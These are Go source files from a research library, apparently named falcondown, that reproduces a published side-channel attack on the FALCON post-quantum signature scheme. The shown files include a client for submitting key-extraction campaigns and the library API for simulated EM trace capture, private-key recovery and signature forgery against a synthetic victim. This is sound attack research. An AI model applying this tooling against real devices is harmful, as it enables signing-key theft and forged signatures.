	fs := flag.NewFlagSet("keygen", flag.ExitOnError)
	n := fs.Int("n", 512, "ring degree (power of two, 8..1024)")
	privPath := fs.String("priv", "falcon.priv", "private key output")
	pubPath := fs.String("pub", "falcon.pub", "public key output")
	seed := fs.Uint64("seed", 0, "deterministic seed (0 = OS entropy)")
	fs.Parse(args)

	priv, pub, err := falcon.GenerateKey(*n, rngFor(*seed))
	if err != nil {
		return err
	}
	logn := bits.Len(uint(*n)) - 1
	sk, err := codec.EncodeSecretKey(priv.Fs, priv.Gs, priv.F, logn)
	if err != nil {
		return err
	}
	if err := os.WriteFile(*privPath, sk, 0o600); err != nil {
		return err
	}
	if err := os.WriteFile(*pubPath, codec.EncodePublicKey(pub.H, logn), 0o644); err != nil {
		return err
	}
	fmt.Printf("FALCON-%d key pair written: %s (%d bytes), %s (%d bytes)\n",
		*n, *privPath, len(sk), *pubPath, 1+(14*(*n)+7)/8)
	return nil
}

func loadPrivate(path string, n int) (*falcon.PrivateKey, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	logn := bits.Len(uint(n)) - 1
	f, g, F, err := codec.DecodeSecretKey(b, logn)
	if err != nil {
		return nil, err
	}
	// G is recomputed from the NTRU equation.
	_, G, err := ntru.Solve(f, g)
	if err != nil {
		return nil, fmt.Errorf("re-deriving G: %w", err)
	}
	return falcon.NewPrivateKey(n, f, g, F, G)
}

func sign(args []string) error {
	fs := flag.NewFlagSet("sign", flag.ExitOnError)
	privPath := fs.String("priv", "falcon.priv", "private key")
	msgPath := fs.String("msg", "", "message file")
	sigPath := fs.String("sig", "falcon.sig", "signature output")
	n := fs.Int("n", 512, "ring degree of the key")
	seed := fs.Uint64("seed", 0, "deterministic seed (0 = OS entropy)")
	fs.Parse(args)

	priv, err := loadPrivate(*privPath, *n)
	if err != nil {
		return err
	}
	msg, err := os.ReadFile(*msgPath)
	if err != nil {
		return err
	}
	sig, err := priv.Sign(msg, rngFor(*seed))
	if err != nil {
		return err
	}
	enc, err := sig.Encode(priv.Params.LogN, priv.Params.SigByteLen)
	if err != nil {
		return err
	}
	if err := os.WriteFile(*sigPath, enc, 0o644); err != nil {
		return err
	}
	fmt.Printf("signature written: %s (%d bytes)\n", *sigPath, len(enc))
	return nil
}

func verify(args []string) error {
	fs := flag.NewFlagSet("verify", flag.ExitOnError)
	pubPath := fs.String("pub", "falcon.pub", "public key")
	msgPath := fs.String("msg", "", "message file")
	sigPath := fs.String("sig", "falcon.sig", "signature")
	n := fs.Int("n", 512, "ring degree of the key")
	fs.Parse(args)

	b, err := os.ReadFile(*pubPath)
	if err != nil {
		return err
	}
	logn := bits.Len(uint(*n)) - 1
	h, err := codec.DecodePublicKey(b, logn)
	if err != nil {
		return err
	}
	params, err := falcon.ParamsForDegree(*n)
	if err != nil {
		return err
	}
	pub := &falcon.PublicKey{Params: params, H: h}
	msg, err := os.ReadFile(*msgPath)
	if err != nil {
		return err
	}
	sb, err := os.ReadFile(*sigPath)
	if err != nil {
		return err
	}
	sig, err := falcon.DecodeSignature(sb, logn, params.SigByteLen)
	if err != nil {
		return err
	}
	if err := pub.Verify(msg, sig); err != nil {
		return err
	}
	fmt.Println("signature valid")
	return nil
}
