// Command campaignctl is the CLI client for campaignd.
//
//	campaignctl -server URL submit -n 64 -traces 1200 -noise 1.5 -seed 1
//	campaignctl -server URL list
//	campaignctl -server URL status c000001
//	campaignctl -server URL watch [-sse] c000001   # stream progress events
//	campaignctl -server URL wait   c000001     # block until terminal
//	campaignctl -server URL result c000001
//	campaignctl -server URL key    c000001 [-o key.json]
//	campaignctl -server URL cancel c000001
//	campaignctl -server URL top [-raw]         # live server metrics
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"

	"falcondown/internal/obs"
)

func main() {
	server := flag.String("server", "http://127.0.0.1:8337", "campaignd base URL")
	flag.Usage = usage
	flag.Parse()
	args := flag.Args()
	if len(args) == 0 {
		usage()
		os.Exit(2)
	}
	cl := &client{base: strings.TrimRight(*server, "/")}
	var err error
	switch cmd, rest := args[0], args[1:]; cmd {
	case "submit":
		err = cl.submit(rest)
	case "list":
		err = cl.getJSON("/campaigns", os.Stdout)
	case "status":
		err = cl.withID(rest, func(id string) error {
			return cl.getJSON("/campaigns/"+id, os.Stdout)
		})
	case "watch":
		err = cl.watchCmd(rest)
	case "wait":
		err = cl.withID(rest, cl.wait)
	case "result":
		err = cl.withID(rest, func(id string) error {
			return cl.getJSON("/campaigns/"+id+"/result", os.Stdout)
		})
	case "key":
		err = cl.key(rest)
	case "cancel":
		err = cl.withID(rest, cl.cancel)
	case "top":
		err = cl.top(rest)
	default:
		fmt.Fprintf(os.Stderr, "campaignctl: unknown command %q\n", cmd)
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "campaignctl: %v\n", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintf(os.Stderr, "usage: campaignctl [-server URL] <submit|list|status|watch|wait|result|key|cancel|top> [args]\n")
	flag.PrintDefaults()
}

type client struct {
	base string
}

func (cl *client) withID(args []string, f func(id string) error) error {
	if len(args) != 1 {
		return fmt.Errorf("expected exactly one campaign ID")
	}
	return f(args[0])
}

// httpError turns a non-2xx response into an error carrying the server's
// message.
func httpError(resp *http.Response) error {
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	var eb struct {
		Error string `json:"error"`
	}
	if json.Unmarshal(body, &eb) == nil && eb.Error != "" {
		return fmt.Errorf("%s: %s", resp.Status, eb.Error)
	}
	return fmt.Errorf("%s: %s", resp.Status, strings.TrimSpace(string(body)))
}

func (cl *client) getJSON(path string, out io.Writer) error {
	resp, err := http.Get(cl.base + path)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return httpError(resp)
	}
	_, err = io.Copy(out, resp.Body)
	return err
}

func (cl *client) submit(args []string) error {
	fs := flag.NewFlagSet("submit", flag.ExitOnError)
	tenant := fs.String("tenant", "", "tenant name")
	name := fs.String("name", "", "human-readable campaign name")
	priority := fs.Int("priority", 0, "queue priority (higher pops first)")
	n := fs.Int("n", 64, "FALCON degree")
	traces := fs.Int("traces", 0, "observations to capture (required)")
	noise := fs.Float64("noise", 2.0, "probe noise sigma")
	seed := fs.Uint64("seed", 1, "campaign seed (victim key, device, acquisition)")
	shard := fs.Int("shard-obs", 0, "observations per corpus shard (0 = single file)")
	chunk := fs.Int("chunk-obs", 0, "observations per chunk (0 = default)")
	devices := fs.Int("devices", 1, "devices in the acquisition pool")
	timeoutMS := fs.Int("timeout-ms", 0, "per-observation timeout (supervised pool)")
	hedgeMS := fs.Int("hedge-ms", 0, "hedged-read delay (supervised pool)")
	breaker := fs.Int("breaker", 0, "breaker failure threshold (supervised pool)")
	flaky := fs.String("flaky", "", "flaky device spec (supervised pool)")
	topK := fs.Int("topk", 0, "mantissa beam width (0 = default)")
	window := fs.Int("window", 0, "CPA alignment window (0 = default)")
	workers := fs.Int("workers", 0, "attack worker count (0 = one per CPU)")
	msg := fs.String("message", "", "message to forge a signature for")
	distributed := fs.Bool("distributed", false, "run the attack over the server's worker fleet")
	fs.Parse(args)
	if fs.NArg() != 0 {
		return fmt.Errorf("submit takes flags only, got %q", fs.Args())
	}

	spec := map[string]any{
		"tenant": *tenant, "name": *name, "priority": *priority,
		"n": *n, "traces": *traces, "noise": *noise, "seed": *seed,
		"shardObs": *shard, "chunkObs": *chunk,
		"devices": *devices, "timeoutMS": *timeoutMS, "hedgeMS": *hedgeMS,
		"breaker": *breaker, "flaky": *flaky,
		"topK": *topK, "window": *window, "workers": *workers,
		"message": *msg, "distributed": *distributed,
	}
	body, err := json.Marshal(spec)
	if err != nil {
		return err
	}
	resp, err := http.Post(cl.base+"/campaigns", "application/json", bytes.NewReader(body))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		return httpError(resp)
	}
	_, err = io.Copy(os.Stdout, resp.Body)
	return err
}

// poll fetches one batch of events (long-polling up to waitSecs) and
// returns the new cursor and the campaign status.
func (cl *client) poll(id string, after, waitSecs int) ([]eventView, int, string, error) {
	url := fmt.Sprintf("%s/campaigns/%s/events?after=%d&wait=%d", cl.base, id, after, waitSecs)
	resp, err := http.Get(url)
	if err != nil {
		return nil, after, "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, after, "", httpError(resp)
	}
	var body struct {
		Events []eventView `json:"events"`
		Next   int         `json:"next"`
		Status string      `json:"status"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		return nil, after, "", err
	}
	return body.Events, body.Next, body.Status, nil
}

type eventView struct {
	Seq      int    `json:"seq"`
	Type     string `json:"type"`
	Phase    string `json:"phase"`
	Beam     int    `json:"beam"`
	Count    int    `json:"count"`
	Suspects int    `json:"suspects"`
	Breakers string `json:"breakers"`
	Msg      string `json:"msg"`
}

func (e eventView) String() string {
	s := e.Type
	if e.Phase != "" {
		s += " " + e.Phase
		if e.Beam > 0 {
			s += fmt.Sprintf(" (beam %d)", e.Beam)
		}
	}
	if e.Count > 0 {
		s += fmt.Sprintf(" %d traces", e.Count)
	}
	if e.Suspects > 0 {
		s += fmt.Sprintf(", %d suspect(s)", e.Suspects)
	}
	if e.Breakers != "" {
		s += " [" + e.Breakers + "]"
	}
	if e.Msg != "" {
		s += ": " + e.Msg
	}
	return s
}

func terminal(status string) bool {
	return status == "done" || status == "failed" || status == "cancelled"
}

// watchCmd parses the watch flags and dispatches to the long-poll or SSE
// transport; both print the same lines and exit on the same conditions.
func (cl *client) watchCmd(args []string) error {
	fs := flag.NewFlagSet("watch", flag.ExitOnError)
	sse := fs.Bool("sse", false, "stream over Server-Sent Events instead of long-polling")
	fs.Parse(args)
	if fs.NArg() != 1 {
		return fmt.Errorf("expected exactly one campaign ID")
	}
	if *sse {
		return cl.watchSSE(fs.Arg(0))
	}
	return cl.watch(fs.Arg(0))
}

// watchSSE streams progress as Server-Sent Events: one GET held open by
// the server until the campaign is terminal, each event a frame, the
// final "end" frame carrying the terminal status.
func (cl *client) watchSSE(id string) error {
	req, err := http.NewRequest(http.MethodGet, cl.base+"/campaigns/"+id+"/events", nil)
	if err != nil {
		return err
	}
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return httpError(resp)
	}
	sc := bufio.NewScanner(resp.Body)
	var event, data string
	for sc.Scan() {
		line := sc.Text()
		switch {
		case line == "": // frame boundary
			if event == "end" {
				status := strings.Trim(data, `"`)
				if status == "failed" {
					return fmt.Errorf("campaign %s failed", id)
				}
				return nil
			}
			if data != "" {
				var e eventView
				if json.Unmarshal([]byte(data), &e) == nil {
					fmt.Printf("%s  #%d %s\n", id, e.Seq, e)
				}
			}
			event, data = "", ""
		case strings.HasPrefix(line, "event: "):
			event = strings.TrimPrefix(line, "event: ")
		case strings.HasPrefix(line, "data: "):
			data = strings.TrimPrefix(line, "data: ")
		}
	}
	if err := sc.Err(); err != nil {
		return err
	}
	return fmt.Errorf("campaign %s: event stream ended before a terminal status", id)
}

// watch streams progress events until the campaign reaches a terminal
// state; exit status reflects the outcome.
func (cl *client) watch(id string) error {
	after := 0
	for {
		events, next, status, err := cl.poll(id, after, 30)
		if err != nil {
			return err
		}
		for _, e := range events {
			fmt.Printf("%s  #%d %s\n", id, e.Seq, e)
		}
		after = next
		if terminal(status) && len(events) == 0 {
			if status == "failed" {
				return fmt.Errorf("campaign %s failed", id)
			}
			return nil
		}
	}
}

// wait blocks silently until the campaign is terminal.
func (cl *client) wait(id string) error {
	after := 0
	for {
		events, next, status, err := cl.poll(id, after, 30)
		if err != nil {
			return err
		}
		after = next
		if terminal(status) && len(events) == 0 {
			if status == "failed" {
				return fmt.Errorf("campaign %s failed", id)
			}
			return nil
		}
	}
}

// cancel stops a campaign (DELETE); 409 (already terminal) is reported
// as an error with the server's message.
func (cl *client) cancel(id string) error {
	req, err := http.NewRequest(http.MethodDelete, cl.base+"/campaigns/"+id, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return httpError(resp)
	}
	_, err = io.Copy(os.Stdout, resp.Body)
	return err
}

// top renders the server's /metricsz snapshot as a one-screen summary:
// build identity, queue/campaign gauges, sweep throughput with a derived
// traces/sec rate, and the fleet/store/reject tallies. -raw dumps the
// snapshot JSON unformatted instead.
func (cl *client) top(args []string) error {
	fs := flag.NewFlagSet("top", flag.ExitOnError)
	raw := fs.Bool("raw", false, "dump the /metricsz JSON snapshot instead of the summary")
	fs.Parse(args)
	if fs.NArg() != 0 {
		return fmt.Errorf("top takes no arguments")
	}
	if *raw {
		return cl.getJSON("/metricsz", os.Stdout)
	}
	var buf bytes.Buffer
	if err := cl.getJSON("/metricsz", &buf); err != nil {
		return err
	}
	var fr obs.FlightRecord
	if err := json.Unmarshal(buf.Bytes(), &fr); err != nil {
		return fmt.Errorf("unparseable /metricsz snapshot: %w", err)
	}

	// Counters and gauges sum across label variants; histograms fold to
	// (count, sum). Metric families absent from the snapshot read as zero.
	val := make(map[string]float64)
	hcount := make(map[string]int64)
	hsum := make(map[string]float64)
	for _, m := range fr.Metrics {
		if m.Type == obs.TypeHistogram {
			hcount[m.Name] += m.Count
			hsum[m.Name] += m.Sum
			continue
		}
		val[m.Name] += m.Value
	}

	rev := fr.Revision
	if len(rev) > 12 {
		rev = rev[:12]
	}
	if rev == "" {
		rev = "dev"
	}
	fmt.Printf("%s  up %.1fs  %s  rev %s\n", fr.Command, fr.UptimeSec, fr.GoVersion, rev)
	fmt.Printf("campaigns: active %.0f  queued %.0f  done %.0f  failed %.0f  cancelled %.0f\n",
		val["falcon_campaign_active"], val["falcon_campaign_queue_depth"],
		counterLabeled(fr.Metrics, "falcon_campaign_terminal_total", "status", "done"),
		counterLabeled(fr.Metrics, "falcon_campaign_terminal_total", "status", "failed"),
		counterLabeled(fr.Metrics, "falcon_campaign_terminal_total", "status", "cancelled"))
	traces := val["falcon_sweep_traces_total"]
	rate := 0.0
	if s := hsum["falcon_sweep_pass_seconds"]; s > 0 {
		rate = traces / s
	}
	fmt.Printf("sweep: passes %.0f  traces %.0f  (%.1f traces/s in-pass)\n",
		val["falcon_sweep_passes_total"], traces, rate)
	fmt.Printf("fleet: tasks %.0f  retries %.0f  hedges %.0f  repairs %.0f  quarantines %.0f  rtt-samples %d\n",
		val["falcon_fleet_tasks_total"], val["falcon_fleet_retries_total"],
		val["falcon_fleet_hedges_total"], val["falcon_fleet_repairs_total"],
		val["falcon_fleet_quarantines_total"], hcount["falcon_fleet_task_rtt_seconds"])
	fmt.Printf("store: shards %.0f  salvaged %.0f  bytes-written %.0f  crc-rejects %.0f\n",
		val["falcon_store_shards_written_total"], val["falcon_store_shards_salvaged_total"],
		val["falcon_store_bytes_written_total"], val["falcon_store_crc_rejects_total"])
	fmt.Printf("rejects: 429 %.0f  503 %.0f\n",
		counterLabeled(fr.Metrics, "falcon_campaign_rejects_total", "code", "429"),
		counterLabeled(fr.Metrics, "falcon_campaign_rejects_total", "code", "503"))
	for _, phase := range []string{"acquire", "attack", "forge", "verify"} {
		name := "falcon_campaign_phase_seconds"
		c, s := histLabeled(fr.Metrics, name, "phase", phase)
		if c > 0 {
			fmt.Printf("phase %-8s %4d run(s)  %.3fs total\n", phase, c, s)
		}
	}
	return nil
}

// counterLabeled returns the value of the family member carrying the
// given label, 0 when absent.
func counterLabeled(ms []obs.MetricSnapshot, name, label, value string) float64 {
	for _, m := range ms {
		if m.Name != name {
			continue
		}
		for _, l := range m.Labels {
			if l.Name == label && l.Value == value {
				return m.Value
			}
		}
	}
	return 0
}

// histLabeled folds the labeled histogram member to (count, sum).
func histLabeled(ms []obs.MetricSnapshot, name, label, value string) (int64, float64) {
	for _, m := range ms {
		if m.Name != name {
			continue
		}
		for _, l := range m.Labels {
			if l.Name == label && l.Value == value {
				return m.Count, m.Sum
			}
		}
	}
	return 0, 0
}

func (cl *client) key(args []string) error {
	fs := flag.NewFlagSet("key", flag.ExitOnError)
	out := fs.String("o", "", "write key JSON to this file instead of stdout")
	fs.Parse(args)
	if fs.NArg() != 1 {
		return fmt.Errorf("expected exactly one campaign ID")
	}
	id := fs.Arg(0)
	var buf bytes.Buffer
	if err := cl.getJSON("/campaigns/"+id+"/key", &buf); err != nil {
		return err
	}
	if *out == "" {
		_, err := os.Stdout.Write(buf.Bytes())
		return err
	}
	return os.WriteFile(*out, buf.Bytes(), 0o644)
}
