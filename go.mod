module falcondown

go 1.24
