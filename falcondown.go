// Package falcondown is a research library reproducing "Falcon Down:
// Breaking FALCON Post-Quantum Signature Scheme through Side-Channel
// Attacks" (Karabulut & Aysu, DAC 2021).
//
// It bundles three layers behind one import:
//
//   - a complete, self-contained FALCON implementation (key generation
//     with NTRU solving, floating-point FFT, ffSampling, signing,
//     verification, and all codecs) whose emulated floating-point
//     multiplier exposes the micro-operation structure the paper attacks;
//   - a synthetic electromagnetic measurement substrate standing in for
//     the paper's ARM-Cortex-M4 + near-field probe testbed;
//   - the paper's differential EM attack: divide-and-conquer recovery of
//     sign, exponent and mantissa with the extend-and-prune strategy,
//     full key reconstruction and signature forgery.
//
// See DESIGN.md for the system inventory and EXPERIMENTS.md for the
// reproduction of every figure and table of the paper.
package falcondown

import (
	"context"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/rng"
	"falcondown/internal/supervise"
	"falcondown/internal/tracestore"
)

// Re-exported scheme types.
type (
	// PrivateKey is a FALCON signing key.
	PrivateKey = falcon.PrivateKey
	// PublicKey is a FALCON verification key.
	PublicKey = falcon.PublicKey
	// Signature is a FALCON signature (salt + short vector).
	Signature = falcon.Signature
	// Params is a FALCON parameter set.
	Params = falcon.Params

	// Device is a victim running the attacked computation.
	Device = emleak.Device
	// Observation is one captured EM measurement with its known input.
	Observation = emleak.Observation
	// Probe is the synthetic acquisition channel.
	Probe = emleak.Probe

	// AttackConfig tunes the extend-and-prune attack, including the
	// parallelism of its corpus sweeps (Workers); results are
	// bit-identical for every worker count.
	AttackConfig = core.Config
	// AttackReport summarizes a key recovery.
	AttackReport = core.RecoveryReport
	// ValueFailure diagnoses one value a failed recovery could not
	// establish.
	ValueFailure = core.ValueFailure
	// AutoAttackOptions tunes the adaptive trace-budget loop of
	// AutoAttack.
	AutoAttackOptions = core.AutoOptions
	// CheckpointStore persists attack state between runs for resumable
	// extractions.
	CheckpointStore = core.CheckpointStore
	// FileCheckpoint is the JSON-sidecar CheckpointStore.
	FileCheckpoint = core.FileCheckpoint

	// TraceSource is a replayable streamed view of a campaign; disk
	// corpora, in-memory slices and custom backends all satisfy it.
	TraceSource = tracestore.Source
	// TraceCorpus is an on-disk (possibly sharded) campaign.
	TraceCorpus = tracestore.Corpus
	// TraceWriter streams a campaign into sharded v2 trace files.
	TraceWriter = tracestore.Writer
	// TraceWriterOptions tunes sharding, chunking and progress callbacks.
	TraceWriterOptions = tracestore.Options
	// AcquireOptions tunes the parallel acquisition runner.
	AcquireOptions = tracestore.AcquireOptions
	// CorpusHealth reports what a lenient open quarantined or lost.
	CorpusHealth = tracestore.CorpusHealth
	// ObservationFault is one quality-gate verdict in CorpusHealth.
	ObservationFault = tracestore.ObservationFault
	// TraceAppender is the write side of a campaign as acquisition
	// runners see it; *TraceWriter is the production implementation.
	TraceAppender = tracestore.Appender

	// MeasuringDevice is one measurement channel of a supervised pool.
	MeasuringDevice = supervise.Device
	// PoolOptions tunes the supervised acquisition runner.
	PoolOptions = supervise.PoolOptions
	// PoolReport summarizes a supervised acquisition (breaker states,
	// retry and hedge counts, quality-gate verdicts).
	PoolReport = supervise.Report
	// BreakerConfig tunes the per-device circuit breakers.
	BreakerConfig = supervise.BreakerConfig
	// BreakerStatus is the reported state of one device's breaker.
	BreakerStatus = supervise.BreakerStatus
	// GateConfig tunes the online trace-quality gate.
	GateConfig = supervise.GateConfig

	// FlakyDevice wraps a Device with deterministic misbehavior —
	// latency, hangs, transient faults, desync, glitches, gain drift.
	FlakyDevice = emleak.FlakyDevice
	// Distortion declares a FlakyDevice's misbehavior mix.
	Distortion = emleak.Distortion
	// Clock abstracts time for the acquisition stack (tests inject a
	// virtual clock; nil means wall time).
	Clock = emleak.Clock

	// RobustAttackConfig tunes the dirty-trace hardening of the CPA
	// (energy trim, cross-correlation resync, winsorization); it rides
	// in AttackConfig.Robust.
	RobustAttackConfig = core.RobustConfig

	// RNG is the deterministic random generator used across the library.
	RNG = rng.Xoshiro
)

// Breaker states as reported in BreakerStatus.
const (
	BreakerClosed   = supervise.StateClosed
	BreakerOpen     = supervise.StateOpen
	BreakerHalfOpen = supervise.StateHalfOpen
)

// Q is FALCON's modulus (12289).
const Q = falcon.Q

// NewRNG returns a deterministic generator (use NewEntropyRNG for
// cryptographic seeding).
func NewRNG(seed uint64) *RNG { return rng.New(seed) }

// NewEntropyRNG returns a generator seeded from the OS entropy pool.
func NewEntropyRNG() *RNG { return rng.NewEntropy() }

// GenerateKey creates a FALCON key pair of degree n (a power of two,
// 8…1024; 512 and 1024 are the standardized sets).
func GenerateKey(n int, rnd *RNG) (*PrivateKey, *PublicKey, error) {
	return falcon.GenerateKey(n, rnd)
}

// ParamsForDegree derives the parameter set for degree n.
func ParamsForDegree(n int) (*Params, error) { return falcon.ParamsForDegree(n) }

// NewVictimDevice wraps a private key into a leaky device using the
// Hamming-weight model and the given probe.
func NewVictimDevice(priv *PrivateKey, probe Probe, seed uint64) *Device {
	return emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, probe, seed)
}

// CollectTraces runs a known-plaintext campaign of count measurements
// against the device.
func CollectTraces(dev *Device, count int, seed uint64) ([]Observation, error) {
	return emleak.NewCampaign(dev, seed).Collect(count)
}

// CollectTracesContext is CollectTraces with cancellation: on ctx
// cancellation it returns the observations collected so far together
// with the context's error.
func CollectTracesContext(ctx context.Context, dev *Device, count int, seed uint64) ([]Observation, error) {
	return emleak.NewCampaign(dev, seed).CollectContext(ctx, count)
}

// RecoverKey runs the full Falcon-Down attack: extract FFT(f) from the
// traces, invert to f, derive g from the public key, re-solve the NTRU
// equation and return a signing key equivalent to the victim's.
func RecoverKey(obs []Observation, pub *PublicKey, cfg AttackConfig) (*PrivateKey, *AttackReport, error) {
	return core.RecoverKey(obs, pub, cfg)
}

// RecoverKeyFromSource runs the full attack against a streamed campaign
// (for example an on-disk corpus from OpenTraceCorpus). The source is
// swept a bounded number of times and never materialized, so corpora far
// larger than memory work unchanged.
func RecoverKeyFromSource(src TraceSource, pub *PublicKey, cfg AttackConfig) (*PrivateKey, *AttackReport, error) {
	return core.RecoverKeyFrom(src, pub, cfg)
}

// RecoverKeyResumable is RecoverKeyFromSource with checkpointed recovery:
// attack state persists through store after each completed phase, so a
// killed extraction rerun against the same campaign and configuration
// resumes from the last completed phase instead of re-sweeping the
// corpus. A nil store disables checkpointing.
func RecoverKeyResumable(src TraceSource, pub *PublicKey, cfg AttackConfig, store CheckpointStore) (*PrivateKey, *AttackReport, error) {
	return core.RecoverKeyResumable(src, pub, cfg, store)
}

// AutoAttack runs the full key extraction against a live device with an
// adaptive trace budget: it acquires traces, attacks, retries failing
// values with escalated beams, and buys more traces (deterministically
// extending the campaign, never re-measuring) until the key is recovered
// or the budget is exhausted. On final failure the partial report names
// exactly which values failed and why (AttackReport.Failed).
func AutoAttack(dev *Device, seed uint64, pub *PublicKey, cfg AttackConfig, opts AutoAttackOptions) (*PrivateKey, *AttackReport, error) {
	return core.AutoRecover(dev, seed, pub, cfg, opts)
}

// NewTraceSource wraps an in-memory campaign of degree n as a TraceSource.
func NewTraceSource(n int, obs []Observation) TraceSource {
	return tracestore.NewSliceSource(n, obs)
}

// OpenTraceCorpus opens an on-disk campaign: a single v2 or legacy v1
// trace file, a shard glob, or a directory of shards.
func OpenTraceCorpus(path string) (*TraceCorpus, error) { return tracestore.Open(path) }

// NewTraceWriter creates a sharded trace-corpus writer for a degree-n
// campaign rooted at path.
func NewTraceWriter(path string, n int, opts TraceWriterOptions) (*TraceWriter, error) {
	return tracestore.NewWriter(path, n, opts)
}

// AcquireTraces runs a known-plaintext campaign of count measurements
// against the device in parallel and streams it into w. The written
// corpus is byte-identical for any worker count. Cancelling ctx stops
// acquisition with the committed prefix intact; finalize w with
// TraceWriter.Interrupt and the campaign can later be resumed with
// ResumeTraceWriter plus opts.Start.
func AcquireTraces(ctx context.Context, dev *Device, seed uint64, count int, w *TraceWriter, opts AcquireOptions) error {
	return tracestore.Acquire(ctx, dev, seed, count, w, opts)
}

// NewPoolDevice wraps a victim as a perfectly behaved pool device for
// AcquirePool.
func NewPoolDevice(dev *Device) MeasuringDevice { return supervise.NewIdeal(dev) }

// NewFlakyDevice wraps a victim with deterministic misbehavior: every
// fault draw is a pure function of (dist.Seed, index), so a flaky
// campaign replays identically. A nil clock uses wall time.
func NewFlakyDevice(dev *Device, dist Distortion, clock Clock) *FlakyDevice {
	return emleak.NewFlakyDevice(dev, dist, clock)
}

// AcquirePool runs a supervised campaign against a pool of possibly
// unreliable devices: per-observation deadlines, retries with backoff,
// per-device circuit breakers, hedged re-measurement and an online
// quality gate, while preserving AcquireTraces' byte-identical-corpus
// contract (observation i depends only on (seed, i)). The report is
// returned even when acquisition fails partway.
func AcquirePool(ctx context.Context, devices []MeasuringDevice, seed uint64, count int, w TraceAppender, opts PoolOptions) (*PoolReport, error) {
	return supervise.AcquirePool(ctx, devices, seed, count, w, opts)
}

// NewMaskedTraceSource hides the observations at the given indices from
// a campaign — typically the quality gate's suspects from a PoolReport —
// without rewriting the corpus.
func NewMaskedTraceSource(src TraceSource, skip []int) TraceSource {
	return tracestore.NewMaskedSource(src, skip)
}

// ResumeTraceWriter reopens an interrupted campaign for appending,
// salvaging a torn final shard first, and reports how many observations
// are already durable (pass it as AcquireOptions.Start).
func ResumeTraceWriter(path string, n int, opts TraceWriterOptions) (*TraceWriter, int, error) {
	return tracestore.ResumeWriter(path, n, opts)
}

// SalvageTraces repairs a v2 shard left without a trailer by a crash:
// the file is truncated to its last CRC-valid chunk and a fresh index and
// trailer are written in place.
func SalvageTraces(path string) (*tracestore.SalvageReport, error) {
	return tracestore.Salvage(path)
}

// OpenTraceCorpusLenient opens a possibly damaged campaign in degraded
// mode: chunks that fail their checksum are quarantined rather than
// failing the open, and the returned health report says exactly what was
// lost. The quarantine set is pinned at open, so every attack pass sweeps
// the identical subset of traces.
func OpenTraceCorpusLenient(path string) (*TraceCorpus, *CorpusHealth, error) {
	return tracestore.OpenLenient(path)
}

// FFTOfSecret exposes the FFT-domain secret of a key (ground truth for
// experiments).
func FFTOfSecret(priv *PrivateKey) []fft.Cplx { return priv.FFTOfF() }
