// Package falcondown is a research library reproducing "Falcon Down:
// Breaking FALCON Post-Quantum Signature Scheme through Side-Channel
// Attacks" (Karabulut & Aysu, DAC 2021).
//
// It bundles three layers behind one import:
//
//   - a complete, self-contained FALCON implementation (key generation
//     with NTRU solving, floating-point FFT, ffSampling, signing,
//     verification, and all codecs) whose emulated floating-point
//     multiplier exposes the micro-operation structure the paper attacks;
//   - a synthetic electromagnetic measurement substrate standing in for
//     the paper's ARM-Cortex-M4 + near-field probe testbed;
//   - the paper's differential EM attack: divide-and-conquer recovery of
//     sign, exponent and mantissa with the extend-and-prune strategy,
//     full key reconstruction and signature forgery.
//
// See DESIGN.md for the system inventory and EXPERIMENTS.md for the
// reproduction of every figure and table of the paper.
package falcondown

import (
	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/rng"
	"falcondown/internal/tracestore"
)

// Re-exported scheme types.
type (
	// PrivateKey is a FALCON signing key.
	PrivateKey = falcon.PrivateKey
	// PublicKey is a FALCON verification key.
	PublicKey = falcon.PublicKey
	// Signature is a FALCON signature (salt + short vector).
	Signature = falcon.Signature
	// Params is a FALCON parameter set.
	Params = falcon.Params

	// Device is a victim running the attacked computation.
	Device = emleak.Device
	// Observation is one captured EM measurement with its known input.
	Observation = emleak.Observation
	// Probe is the synthetic acquisition channel.
	Probe = emleak.Probe

	// AttackConfig tunes the extend-and-prune attack.
	AttackConfig = core.Config
	// AttackReport summarizes a key recovery.
	AttackReport = core.RecoveryReport

	// TraceSource is a replayable streamed view of a campaign; disk
	// corpora, in-memory slices and custom backends all satisfy it.
	TraceSource = tracestore.Source
	// TraceCorpus is an on-disk (possibly sharded) campaign.
	TraceCorpus = tracestore.Corpus
	// TraceWriter streams a campaign into sharded v2 trace files.
	TraceWriter = tracestore.Writer
	// TraceWriterOptions tunes sharding, chunking and progress callbacks.
	TraceWriterOptions = tracestore.Options
	// AcquireOptions tunes the parallel acquisition runner.
	AcquireOptions = tracestore.AcquireOptions

	// RNG is the deterministic random generator used across the library.
	RNG = rng.Xoshiro
)

// Q is FALCON's modulus (12289).
const Q = falcon.Q

// NewRNG returns a deterministic generator (use NewEntropyRNG for
// cryptographic seeding).
func NewRNG(seed uint64) *RNG { return rng.New(seed) }

// NewEntropyRNG returns a generator seeded from the OS entropy pool.
func NewEntropyRNG() *RNG { return rng.NewEntropy() }

// GenerateKey creates a FALCON key pair of degree n (a power of two,
// 8…1024; 512 and 1024 are the standardized sets).
func GenerateKey(n int, rnd *RNG) (*PrivateKey, *PublicKey, error) {
	return falcon.GenerateKey(n, rnd)
}

// ParamsForDegree derives the parameter set for degree n.
